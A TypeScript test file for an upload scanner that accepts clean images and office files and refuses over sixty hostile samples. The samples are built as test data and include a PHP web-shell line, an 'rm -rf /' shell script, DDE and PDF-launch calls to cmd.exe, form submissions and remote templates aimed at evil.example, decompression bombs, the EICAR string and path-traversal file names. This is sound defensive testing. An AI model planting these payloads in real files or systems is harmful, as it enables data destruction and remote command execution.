import { createHash } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import { beforeAll, expect, test } from 'vitest';
import { EVIDENCE_MOST } from '@bang-vang/shared/data/evidence.ts';
import type { EvidenceFault } from '@bang-vang/shared/domain/evidence/evidence-fault.ts';
import { EVIDENCE_SENTENCES } from '@bang-vang/shared/contract/evidence-sentences.ts';
import { id } from '@bang-vang/shared/domain/kernel/ids.ts';
import { cleanKey, keptEvidence, quarantineKey } from '../kit/kept-files.ts';
import { call, done } from '../testing/call.ts';
import { layGround } from '../testing/ground.ts';
import { problemOf, refusalOf } from '../testing/problem.ts';
import { ofUnit, openRound } from '../testing/season.ts';
import { zipOf } from '../workbooks/testing/raw-workbook.ts';
import { aJpeg, anOffice, aPdf, aPng, aStream, aWebp, exif, officeEntries } from './testing/made.ts';

beforeAll(async () => {
  await layGround();
  await openRound();
});

const C1 = { as: 'officer.C1', params: ofUnit('C1') };
const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');
const announce = (name: string, bytes: Buffer, size = bytes.length) =>
  call('announceEvidence', { ...C1, body: { name, size, sha256: sha256(bytes) } });

type Sent = { readonly name: string; readonly bytes: Buffer; readonly announcedFor?: Buffer };

/** Announces a file, puts bytes where they arrive, and asks for a link before and after the check. */
async function sent({ name, bytes, announcedFor = bytes }: Sent) {
  const { evidence } = await done('announceEvidence', {
    ...C1,
    body: { name, size: announcedFor.length, sha256: sha256(announcedFor) },
  });
  const asked = { as: 'officer.C1', params: { evidence } };
  await keptEvidence().write(quarantineKey(id(evidence)), bytes);
  const before = refusalOf(await call('getEvidenceLink', asked));
  const view = await done('checkEvidence', asked);
  const after = await call('getEvidenceLink', asked);
  const kept = await keptEvidence().sizeOf(cleanKey(id(evidence)));
  return { before, view, after, kept };
}

const closed = [409, 'wrong-state'];

test.each<[string, string, Buffer | Promise<Buffer>]>([
  ['a picture of a screen', 'Bảng niêm yết.png', aPng()],
  ['a photo', 'Ảnh 1.JPG', aJpeg()],
  [
    'a photo with its orientation',
    'anh.jpeg',
    aJpeg({ segments: [[0xe1, Buffer.concat([Buffer.from('Exif\0\0'), exif('orientation')])]] }),
  ],
  ['a WebP picture', 'anh.webp', aWebp()],
  ['a PDF with a page', 'Kế hoạch số 12.pdf', aPdf('/Lang(vi)', [aStream('BT (Xin chao) Tj ET')])],
  ['a document of Word', 'Báo cáo.docx', anOffice('docx')],
  ['a workbook', 'Tổng hợp.xlsx', anOffice('xlsx')],
  [
    'slides with a link',
    'Trình chiếu.pptx',
    anOffice('pptx', {
      'ppt/slides/_rels/slide1.xml.rels':
        '<Relationships><Relationship Id="r2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.vn" TargetMode="External"/></Relationships>',
    }),
  ],
])('%s is given out once it is clean, and not before.', async (_, name, making) => {
  const { before, view, after, kept } = await sent({ name, bytes: await making });
  expect([before, view.state, view.fault, after.status, kept]).toEqual([
    closed,
    'clean',
    undefined,
    200,
    (await making).length,
  ]);
});

const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD', 'ANTIVIRUS-TEST-FILE!$H+H*'].join('-');
const RELS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const outside = (type: string, target: string) =>
  `<Relationships><Relationship Id="r9" Type="${RELS}/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
const html = '<html><script>alert(1)</script></html>';
const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>';
const ole = (text = '') =>
  Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600), Buffer.from(text, 'utf16le')]);
const patched = (bytes: Buffer, change: (copy: Buffer) => void) => {
  const copy = Buffer.from(bytes);
  change(copy);
  return copy;
};
/** Sets the bit "encrypted" in every local header and in the directory. */
const encrypted = (zip: Buffer) =>
  patched(zip, (copy) => {
    for (const [sign, flags] of [
      ['PK\x03\x04', 6],
      ['PK\x01\x02', 8],
    ] as const)
      for (let at = copy.indexOf(sign, 0, 'latin1'); at >= 0; at = copy.indexOf(sign, at + 4, 'latin1'))
        copy.writeUInt16LE(copy.readUInt16LE(at + flags) | 1, at + flags);
  });
const macroType =
  '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>';
const withXmp: readonly (readonly [number, Buffer])[] = [
  [0xe1, Buffer.from('http://ns.adobe.com/xap/1.0/\0<x:xmpmeta/>')],
];
const ofPlace: readonly (readonly [number, Buffer])[] = [
  [0xe1, Buffer.concat([Buffer.from('Exif\0\0'), exif('place')])],
];
const huge = Buffer.alloc(12 * 1024 * 1024);

/** What a file is called, what it is, and why it is not taken. */
const hostile: readonly (readonly [string, string, EvidenceFault, Buffer | Promise<Buffer>])[] = [
  // not what they claim to be
  ['a page of HTML called a picture', 'a.png', 'type-differs', Buffer.from(html)],
  ['a page of HTML called a PDF', 'a.pdf', 'type-differs', Buffer.from(html)],
  ['a drawing that runs, called a JPEG', 'a.jpg', 'type-differs', Buffer.from(svg)],
  ['a drawing that runs, called a WebP', 'a.webp', 'type-differs', Buffer.from(svg)],
  [
    'a program called a picture',
    'a.png',
    'type-differs',
    Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)]),
  ],
  ['a program called a PDF', 'a.pdf', 'type-differs', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)])],
  [
    'a program of Linux called a workbook',
    'a.xlsx',
    'type-differs',
    Buffer.concat([Buffer.from('\x7fELF'), Buffer.alloc(200)]),
  ],
  ['a script called a document', 'a.docx', 'type-differs', Buffer.from('#!/bin/sh\nrm -rf /\n'.repeat(4))],
  ['a picture called a PDF', 'a.pdf', 'type-differs', aPng()],
  ['a PDF called a picture', 'a.jpg', 'type-differs', aPdf()],
  ['a workbook called a document', 'a.docx', 'type-differs', anOffice('xlsx')],
  ['any zip called slides', 'a.pptx', 'type-differs', zipOf({ 'ghi-chu.txt': 'abc' })],
  ['an old document under a new ending', 'a.docx', 'old-office', ole()],
  // cut off or damaged
  ['a PNG cut off', 'a.png', 'broken', aPng().subarray(0, 40)],
  ['a JPEG cut off', 'a.jpg', 'broken', aJpeg().subarray(0, -2)],
  ['a WebP cut off', 'a.webp', 'broken', aWebp().subarray(0, -4)],
  ['a PDF cut off', 'a.pdf', 'broken', aPdf().subarray(0, 120)],
  ['a document cut off', 'a.docx', 'broken', anOffice('docx').then((zip) => zip.subarray(0, -60))],
  ['a PNG with a wrong checksum', 'a.png', 'broken', patched(aPng(), (copy) => copy.writeUInt8(9, 20))],
  ['a PNG whose rows do not inflate', 'a.png', 'broken', patched(aPng(), (copy) => copy.fill(0xff, 41, 43))],
  ['a JPEG without a picture', 'a.jpg', 'broken', Buffer.from('ffd8ffe000024444ffd9', 'hex')],
  [
    'a document whose part was changed',
    'a.docx',
    'broken',
    zipOf(officeEntries('docx'), { compress: false }).then((zip) =>
      patched(zip, (copy) => copy.write('X', copy.indexOf('Biên'))),
    ),
  ],
  // two files in one
  ['a PNG with a page behind it', 'a.png', 'more-than-it-says', Buffer.concat([aPng(), Buffer.from(html)])],
  [
    'a JPEG with an archive behind it',
    'a.jpg',
    'more-than-it-says',
    anOffice('docx').then((zip) => Buffer.concat([aJpeg(), zip])),
  ],
  [
    'a JPEG with a page in its comment',
    'a.jpg',
    'more-than-it-says',
    aJpeg({ segments: [[0xfe, Buffer.from(html)]] }),
  ],
  [
    'a JPEG with a program of PHP in its comment',
    'a.jpg',
    'more-than-it-says',
    aJpeg({ segments: [[0xfe, Buffer.from('<?php system($_GET[0]); ?>')]] }),
  ],
  [
    'a JPEG that is a PDF too',
    'a.jpg',
    'more-than-it-says',
    aJpeg({ segments: [[0xfe, Buffer.from('%PDF-1.4 1 0 obj')]] }),
  ],
  [
    'a PNG with words in it',
    'a.png',
    'more-than-it-says',
    aPng({ more: [['tEXt', Buffer.from(`Comment\0${html}`)]] }),
  ],
  ['a PNG that moves', 'a.png', 'more-than-it-says', aPng({ more: [['acTL', Buffer.alloc(8)]] })],
  [
    'a WebP with a page behind it',
    'a.webp',
    'more-than-it-says',
    Buffer.concat([aWebp(), Buffer.from(html)]),
  ],
  [
    'a WebP with a chunk of its own',
    'a.webp',
    'more-than-it-says',
    aWebp([
      ['VP8 ', Buffer.alloc(10)],
      ['EVIL', Buffer.from(html)],
    ]),
  ],
  [
    'a PDF with an archive behind it',
    'a.pdf',
    'more-than-it-says',
    anOffice('docx').then((zip) => Buffer.concat([aPdf(), zip])),
  ],
  [
    'a document with words before it',
    'a.docx',
    'type-differs',
    anOffice('docx').then((zip) => Buffer.concat([Buffer.from('GIF89a'), zip])),
  ],
  [
    'a document with a page behind it',
    'a.docx',
    'more-than-it-says',
    anOffice('docx').then((zip) => Buffer.concat([zip, Buffer.from(html)])),
  ],
  // larger when opened
  [
    'a PNG of a hundred thousand by a hundred thousand',
    'a.png',
    'too-dense',
    aPng({ width: 100_000, height: 100_000, rows: Buffer.alloc(10) }),
  ],
  ['a PNG with more rows than it says', 'a.png', 'too-dense', aPng({ rows: huge })],
  ['a JPEG of 65 thousand by 65 thousand', 'a.jpg', 'too-dense', aJpeg({ width: 65_000, height: 65_000 })],
  [
    'a WebP of sixteen thousand by sixteen thousand',
    'a.webp',
    'too-dense',
    aWebp([
      ['VP8X', Buffer.from('00000000ff3f00ff3f00', 'hex')],
      ['VP8 ', Buffer.alloc(10)],
    ]),
  ],
  [
    'a PDF whose stream inflates a thousandfold',
    'a.pdf',
    'too-dense',
    aPdf('', [aStream(Buffer.alloc(70 * 1024 * 1024))]),
  ],
  [
    'a document whose part inflates a thousandfold',
    'a.docx',
    'too-dense',
    anOffice('docx', { 'word/media/x.xml': huge }),
  ],
  // closed with a password
  ['a PDF with a password', 'a.pdf', 'encrypted', aPdf('/Encrypt 7 0 R')],
  ['a document with a password', 'a.docx', 'encrypted', ole('EncryptedPackage')],
  ['a zip whose parts are encrypted', 'a.xlsx', 'encrypted', anOffice('xlsx').then(encrypted)],
  // that tell where somebody was
  ['a photo with its place', 'a.jpg', 'location', aJpeg({ segments: ofPlace })],
  ['a photo with XMP', 'a.jpg', 'location', aJpeg({ segments: withXmp })],
  ['a PNG with its place', 'a.png', 'location', aPng({ more: [['eXIf', exif('place')]] })],
  [
    'a WebP with its place',
    'a.webp',
    'location',
    aWebp([
      ['VP8 ', Buffer.alloc(10)],
      ['EXIF', exif('place')],
    ]),
  ],
  // that run
  ['a PDF with JavaScript', 'a.pdf', 'active', aPdf('/OpenAction<</S/JavaScript/JS(app.alert(1))>>')],
  ['a PDF with JavaScript under an escaped name', 'a.pdf', 'active', aPdf('/OpenAction<</S/J#61vaScript>>')],
  [
    'a PDF with JavaScript in a packed object',
    'a.pdf',
    'active',
    aPdf('', [aStream('4 0 <</S/JavaScript/JS(x)>>', '/Type/ObjStm/N 1/First 4')]),
  ],
  ['a PDF that starts a program', 'a.pdf', 'active', aPdf('/OpenAction<</S/Launch/F(cmd.exe)>>')],
  ['a PDF with a form of XML', 'a.pdf', 'active', aPdf('/AcroForm<</XFA 9 0 R>>')],
  [
    'a PDF that sends its form',
    'a.pdf',
    'active',
    aPdf('', ['7 0 obj<</S/SubmitForm/F(https://evil.example)>>endobj']),
  ],
  [
    'a PDF with objects behind another filter',
    'a.pdf',
    'active',
    aPdf('', ['8 0 obj<</Type/ObjStm/Filter[/ASCII85Decode/FlateDecode]>>stream\nabc\nendstream endobj']),
  ],
  [
    'a document with a command in a field',
    'a.docx',
    'active',
    anOffice('docx', {
      'word/header1.xml': '<p><instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</instrText></p>',
    }),
  ],
  [
    'a workbook with a link to a program',
    'a.xlsx',
    'active',
    anOffice('xlsx', {
      'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
    }),
  ],
  [
    'a document with entities',
    'a.docx',
    'active',
    anOffice('docx', { 'word/styles.xml': '<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>' }),
  ],
  ['a document with macros', 'a.docx', 'macros', anOffice('docx', { 'word/vbaProject.bin': 'x' })],
  [
    'a document of the kind with macros',
    'a.docx',
    'macros',
    anOffice('docx', { '[Content_Types].xml': macroType }),
  ],
  // that bring others along, or fetch them
  ['a PDF with a file in it', 'a.pdf', 'embedded', aPdf('/Names<</EmbeddedFiles 5 0 R>>')],
  [
    'a document with an object in it',
    'a.docx',
    'embedded',
    anOffice('docx', { 'word/embeddings/oleObject1.bin': 'x' }),
  ],
  ['a document with a program in it', 'a.docx', 'embedded', anOffice('docx', { 'word/media/a.exe': 'MZ' })],
  [
    'slides with a control in them',
    'a.pptx',
    'embedded',
    anOffice('pptx', { 'ppt/activeX/activeX1.xml': '<x/>' }),
  ],
  [
    'a document with a template elsewhere',
    'a.docx',
    'outside',
    anOffice('docx', {
      'word/_rels/settings.xml.rels': outside('attachedTemplate', 'https://evil.example/t.dotm'),
    }),
  ],
  [
    'a workbook with a picture elsewhere',
    'a.xlsx',
    'outside',
    anOffice('xlsx', { 'xl/drawings/_rels/drawing1.xml.rels': outside('image', 'file://evil/a.png') }),
  ],
  ['a PDF that opens another', 'a.pdf', 'outside', aPdf('/OpenAction<</S/GoToR/F(other.pdf)>>')],
  // malware
  ['the EICAR file called a PDF', 'a.pdf', 'infected', Buffer.from(EICAR)],
  [
    'the EICAR file in a comment of a picture',
    'a.jpg',
    'infected',
    aJpeg({ segments: [[0xfe, Buffer.from(EICAR)]] }),
  ],
  [
    'the EICAR file in base64',
    'a.pdf',
    'infected',
    aPdf(`/X(${Buffer.from(`ab${EICAR}cd`).toString('base64')})`),
  ],
  [
    'the EICAR file packed into a document',
    'a.docx',
    'infected',
    anOffice('docx', { 'word/media/x.txt': EICAR }),
  ],
  ['the EICAR file packed into a stream of a PDF', 'a.pdf', 'infected', aPdf('', [aStream(EICAR)])],
  [
    'the EICAR file in two-byte letters',
    'a.docx',
    'infected',
    anOffice('docx', { 'word/media/x.txt': Buffer.from(EICAR, 'utf16le') }),
  ],
];

test.each(hostile)('%s (“%s”) is refused: %s.', async (_, name, fault, making) => {
  const bytes = await making;
  const { before, view, after, kept } = await sent({ name, bytes });
  expect([before, view.state, view.fault, refusalOf(after), kept]).toEqual([
    closed,
    'refused',
    { code: fault, sentence: EVIDENCE_SENTENCES[fault] },
    closed,
    undefined,
  ]);
});

test('Sixty and more hostile files were tried.', () => {
  expect(hostile.length).toBeGreaterThanOrEqual(60);
});

test.each<[string, Sent, EvidenceFault]>([
  [
    'other bytes of the same size',
    { name: 'a.png', bytes: aPng(), announcedFor: Buffer.alloc(aPng().length, 1) },
    'checksum-differs',
  ],
  [
    'fewer bytes than announced',
    { name: 'a.png', bytes: aPng().subarray(0, 30), announcedFor: aPng() },
    'size-differs',
  ],
])('What arrives otherwise than announced is refused: %s.', async (_, file, fault) => {
  const { view, after, kept } = await sent(file);
  expect([view.state, view.fault?.code, refusalOf(after), kept]).toEqual([
    'refused',
    fault,
    closed,
    undefined,
  ]);
});

test.each<[string, EvidenceFault]>([
  ['a\u202egnp.exe', 'name-unsafe'],
  ['hoa\u2066don.pdf', 'name-unsafe'],
  ['a\u200b.pdf', 'name-unsafe'],
  ['../../etc/passwd.pdf', 'name-unsafe'],
  ['a\\b.pdf', 'name-unsafe'],
  ['.htaccess', 'name-unsafe'],
  ['hoadon.exe.pdf', 'name-double'],
  ['trang.html.png', 'name-double'],
  ['bao-cao.js.docx', 'name-double'],
  ['hoadon.pdf.exe', 'type-not-taken'],
  ['a.svg', 'type-not-taken'],
  ['a.html', 'type-not-taken'],
  ['a.docm', 'type-not-taken'],
  ['a.zip', 'type-not-taken'],
  ['khong-duoi', 'type-not-taken'],
  ['Báo cáo.doc', 'old-office'],
  ['Tổng hợp.xls', 'old-office'],
])('A file called “%s” is not even announced: %s.', async (name, fault) => {
  const answer = await announce(name, aPng());
  expect([answer.status, problemOf(answer)]).toMatchObject([
    422,
    { code: 'evidence-refused', fault, detail: EVIDENCE_SENTENCES[fault] },
  ]);
});

test.each<[string, number, EvidenceFault]>([
  ['a.pdf', 0, 'empty'],
  ['a.png', EVIDENCE_MOST.png + 1, 'too-large'],
  ['a.pdf', EVIDENCE_MOST.pdf + 1, 'too-large'],
])('“%s” of %d bytes is not even announced: %s.', async (name, size, fault) => {
  expect(problemOf(await announce(name, aPng(), size))).toMatchObject({ code: 'evidence-refused', fault });
});

test('A file that has not arrived is not checked, and one that was judged stays as it is.', async () => {
  const bytes = aPng();
  const { evidence } = await done('announceEvidence', {
    ...C1,
    body: { name: 'a.png', size: bytes.length, sha256: sha256(bytes) },
  });
  const asked = { as: 'officer.C1', params: { evidence } };
  expect(refusalOf(await call('checkEvidence', asked))).toEqual([409, 'file-not-there']);
  await keptEvidence().write(quarantineKey(id(evidence)), bytes);
  expect((await done('checkEvidence', asked)).state).toBe('clean');
  await keptEvidence().write(quarantineKey(id(evidence)), Buffer.from(deflateSync(html)));
  expect((await done('checkEvidence', asked)).state).toBe('clean');
});
